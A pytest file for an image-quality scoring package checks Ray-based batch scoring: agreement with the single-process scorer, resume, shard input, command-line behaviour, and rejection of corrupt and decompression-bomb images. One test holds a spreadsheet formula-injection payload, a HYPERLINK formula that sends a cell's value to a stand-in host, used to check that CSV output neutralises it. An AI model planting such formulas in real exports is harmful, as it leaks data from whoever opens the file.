"""Corpus scoring on Ray Data with a local Ray instance: a folder, a CSV and WebDataset shards
with a corrupt image among them; equality with the single-process scorer; resume of a DST;
the command line; and the message when Ray is missing."""

import io
import os
import subprocess
import sys
import tarfile

import numpy as np
import pandas as pd
import pytest
from PIL import Image, PngImagePlugin

ray = pytest.importorskip('ray', reason="Ray is an optional extra: pip install 'pyiqa-agiqa[ray]'")

from pyiqa_agiqa.scoring.ray_engine import read_results, score_with_ray  # noqa: E402
from pyiqa_agiqa.metrics.factory import create_metrics  # noqa: E402
from pyiqa_agiqa.scoring.rows import rows_from_csv  # noqa: E402
from pyiqa_agiqa.scoring.local import score_rows  # noqa: E402
import torch  # noqa: E402

from conftest import rounding  # noqa: E402

pytestmark = pytest.mark.ray
TINY = dict(pretrained=False, clip_model='AGIQA-Tiny-ViT', min_side=64, stride=8, large_side=100000)
METRICS = ['ipce', 'cianet_consistency']


@pytest.fixture(scope='module')
def corpus(tmp_path_factory):
    """24 generated PNGs (two sizes) with A1111 prompts, one corrupt file, and a CSV listing them."""
    root = tmp_path_factory.mktemp('corpus')
    rng = np.random.default_rng(0)
    names = []
    for i in range(24):
        info = PngImagePlugin.PngInfo()
        info.add_text('parameters', f'a red circle number {i}\nNegative prompt: blurry\nSteps: 20')
        size = (64, 64) if i % 3 else (64, 80)
        Image.fromarray((rng.random((*size, 3)) * 255).astype(np.uint8)).save(root / f'{i:02d}.png', pnginfo=info)
        names.append(f'{i:02d}.png')
    (root / 'corrupt.png').write_bytes(b'\x89PNG\r\n\x1a\n not really')
    names.append('corrupt.png')
    pd.DataFrame({'image': names, 'prompt': [f'prompt {n}' for n in names]}).to_csv(root / 'list.csv', index=False)
    return root


def single_process(corpus, csv):
    metrics = create_metrics(METRICS, 'cpu', TINY)
    return score_rows(metrics, rows_from_csv(str(csv)), batch_size=4, progress=False, workers=0).set_index('image')


def test_scores_equal_the_single_process_scorer_and_the_corrupt_image_is_a_row(local_ray, corpus, tmp_path):
    summary = score_with_ray(METRICS, str(corpus / 'list.csv'), str(tmp_path / 'dst'), options=TINY, batch_size=4,
                             actors=2)
    assert (summary.read, summary.scored, summary.failed) == (25, 24, 1)
    assert summary.failures[0][0].endswith('corrupt.png') and 'Cannot read image' in summary.failures[0][1]
    results = read_results(str(tmp_path / 'dst')).set_index('image')
    expected = single_process(corpus, corpus / 'list.csv')
    assert set(results.index) == set(expected.index)
    ok = expected['error'] == ''
    for name in METRICS:
        diff = (results.loc[expected.index[ok], name].astype(float) - expected.loc[ok, name].astype(float)).abs()
        # other batches on the actors: two float32 runs, each within rounding() of the exact score on its
        # range (ipce 0-5, consistency: the random weights' logit scale 1 / 0.07)
        assert diff.max() <= 2 * rounding(torch.float32, {'ipce': 5, 'cianet_consistency': 1 / 0.07}[name]), diff.max()
    assert (results.loc[expected.index[ok], 'prompt_source'] == 'csv').all()


def test_a_restarted_job_skips_what_is_written(local_ray, corpus, tmp_path):
    table = pd.read_csv(corpus / 'list.csv')
    first = tmp_path / 'first.csv'
    table.iloc[:10].assign(image=[str(corpus / n) for n in table['image'][:10]]).to_csv(first, index=False)
    dst = str(tmp_path / 'dst')
    assert score_with_ray(['ipce'], str(first), dst, options=TINY, batch_size=4).scored == 10
    again = score_with_ray(['ipce'], str(corpus / 'list.csv'), dst, options=TINY, batch_size=4)
    assert (again.read, again.skipped, again.scored, again.failed) == (25, 10, 14, 1)
    assert len(read_results(dst)) == 25
    third = score_with_ray(['ipce'], str(corpus / 'list.csv'), dst, options=TINY, batch_size=4)
    assert (third.skipped, third.scored, third.failed) == (24, 0, 1)  # only the corrupt one is tried again


def test_folder_with_embedded_prompts_and_webdataset_shards(local_ray, corpus, tmp_path):
    folder = score_with_ray(['ipce'], str(corpus), str(tmp_path / 'folder'), options=TINY, batch_size=8)
    assert (folder.scored, folder.failed) == (24, 1)
    results = read_results(str(tmp_path / 'folder')).set_index('image')
    assert results.loc[str(corpus / '05.png'), 'prompt'] == 'a red circle number 5'
    assert results.loc[str(corpus / '05.png'), 'prompt_source'] == 'png:parameters'
    shard = tmp_path / 'shard-000.tar'
    with tarfile.open(shard, 'w') as tar:
        for i in range(6):
            for ext, data in (('png', (corpus / f'{i:02d}.png').read_bytes()), ('txt', f'shard prompt {i}'.encode())):
                info = tarfile.TarInfo(f'sample{i:03d}.{ext}')
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    shards = score_with_ray(['ipce'], str(shard), str(tmp_path / 'shards'), options=TINY, batch_size=4, fmt='csv')
    assert (shards.read, shards.scored) == (6, 6)
    table = read_results(str(tmp_path / 'shards'))
    assert sorted(table['prompt']) == [f'shard prompt {i}' for i in range(6)]
    assert all(name.endswith('.csv') for name in os.listdir(tmp_path / 'shards'))


def test_a_bomb_is_its_row_and_formula_prompts_are_inert_in_csv_parts(local_ray, corpus, tmp_path):
    from conftest import write_bomb_png

    write_bomb_png(tmp_path / 'bomb.png')
    formula = '=HYPERLINK("http://x.example/?a="&A1,"click")'
    listing = tmp_path / 'list.csv'
    pd.DataFrame({'image': [str(corpus / '00.png'), str(tmp_path / 'bomb.png'), str(corpus / '01.png')],
                  'prompt': [formula, 'a dog', '@owl']}).to_csv(listing, index=False)
    for fmt in ('csv', 'parquet'):
        dst = tmp_path / fmt
        summary = score_with_ray(['ipce'], str(listing), str(dst), options=TINY, batch_size=4, fmt=fmt)
        assert (summary.read, summary.scored, summary.failed) == (3, 2, 1)
        assert summary.failures[0][0].endswith('bomb.png') and 'more than the limit' in summary.failures[0][1]
        table = read_results(str(dst)).set_index('image')
        assert table.loc[str(corpus / '00.png'), 'prompt'] == formula  # read back as the original text
    raw = pd.concat([pd.read_csv(tmp_path / 'csv' / p, dtype=str, keep_default_na=False)
                     for p in os.listdir(tmp_path / 'csv')])
    assert sorted(raw['prompt']) == sorted(["'" + formula, 'a dog', "'@owl"])  # inert in the CSV parts
    parts = [pd.read_parquet(tmp_path / 'parquet' / p) for p in os.listdir(tmp_path / 'parquet')]
    assert formula in set(pd.concat(parts)['prompt'])  # Parquet keeps the raw text


def test_command_line_and_a_missing_ray(corpus, tmp_path):
    env = dict(os.environ, HF_HUB_OFFLINE='1', OMP_NUM_THREADS='1')
    cmd = [sys.executable, '-m', 'pyiqa_agiqa.cli', 'score', 'ipce', '--engine', 'ray', '--input',
           str(corpus / 'list.csv'), '--output', str(tmp_path / 'dst'), '--random-weights', '--set',
           'clip_model=AGIQA-Tiny-ViT', '--set', 'min_side=64', '--batch-size', '4', '-q']
    result = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=600)
    assert result.returncode == 1, result.stderr[-2000:]  # the corrupt image
    assert '25 rows read, 0 already in' in result.stderr and '24 scored, 1 failed' in result.stderr
    assert 'images/s' in result.stderr
    blocker = tmp_path / 'no_ray'
    blocker.mkdir()
    (blocker / 'ray.py').write_text("raise ImportError('No module named ray')\n")
    result = subprocess.run(cmd, env=dict(env, PYTHONPATH=str(blocker)), capture_output=True, text=True, timeout=300)
    assert result.returncode == 2
    assert result.stderr.strip() == ("error: the Ray engine needs Ray Data: pip install 'pyiqa-agiqa[ray]' "
                                     "(or pip install 'ray[data]')")


def test_an_exported_folder_alone_builds_its_network_in_the_actors(local_ray, corpus, tmp_path):
    """``weights`` with no network option: the actors build what the card records (a ResNet
    tower and IPCE views none of which is a default), as the single-process scorer does."""
    from pyiqa_agiqa.archs import IPCE
    from pyiqa_agiqa.export.folder import new_card, write_exported

    torch.manual_seed(0)
    net = IPCE(pretrained=False, clip_model='AGIQA-Tiny-RN', min_side=64, stride=16, large_side=100000)
    folder = str(write_exported(tmp_path / 'weights', net.state_dict(),
                                new_card('IPCE', net.options, ['score'], source='test: random weights')))
    listing = tmp_path / 'few.csv'
    pd.read_csv(corpus / 'list.csv').iloc[:6].assign(
        image=lambda t: [str(corpus / n) for n in t['image']]).to_csv(listing, index=False)
    summary = score_with_ray(['ipce'], str(listing), str(tmp_path / 'dst'), weights={None: folder}, batch_size=4)
    assert (summary.scored, summary.failed) == (6, 0)
    results = read_results(str(tmp_path / 'dst')).set_index('image')
    metrics = create_metrics(['ipce'], 'cpu', weights={None: folder})
    assert metrics['ipce'].net.options == net.options
    expected = score_rows(metrics, rows_from_csv(str(listing)), batch_size=4, progress=False,
                          workers=0).set_index('image')
    diff = (results.loc[expected.index, 'ipce'].astype(float) - expected['ipce'].astype(float)).abs()
    assert diff.max() <= 2 * rounding(torch.float32, 5), diff.max()
